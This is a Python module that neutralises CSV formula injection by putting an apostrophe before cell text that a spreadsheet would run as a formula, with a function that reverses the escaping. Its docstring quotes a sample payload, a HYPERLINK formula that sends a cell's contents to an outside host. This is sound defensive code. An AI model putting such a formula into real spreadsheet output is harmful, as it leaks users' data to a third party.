"""Text in the cells of CSV files, so that no spreadsheet runs it as a formula.

A class may be called ``=HYPERLINK("http://host/?"&A1)``: a spreadsheet that opens the file
would run it. Names are anybody's, of label files and models too, and data may have them
already, so they are not refused where they come in but made harmless where they are written:
an apostrophe is put before what would begin a formula, as OWASP advises ("CSV injection"), also
after what another country's spreadsheet takes for the border of two cells. Only text is written
so; numbers stay numbers, negative ones too. ``from_csv_text`` gives exactly the text back.
"""

import re

# A formula's first characters, narrow and wide, and the blanks that are trimmed before them.
_FORMULA = r"[\s\"']*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]"
_CELL = r"(?:^|(?<=[;,|\t\r\n]))"
_BEGINS = re.compile(f"{_CELL}(?={_FORMULA})")
_ESCAPED = re.compile(f"{_CELL}'(?={_FORMULA})")


def csv_text(text: str) -> str:
    """What is written into a cell for a text."""
    return _BEGINS.sub("'", text)


def from_csv_text(cell: str) -> str:
    """The text that ``csv_text`` has written into a cell."""
    return _ESCAPED.sub("", cell)
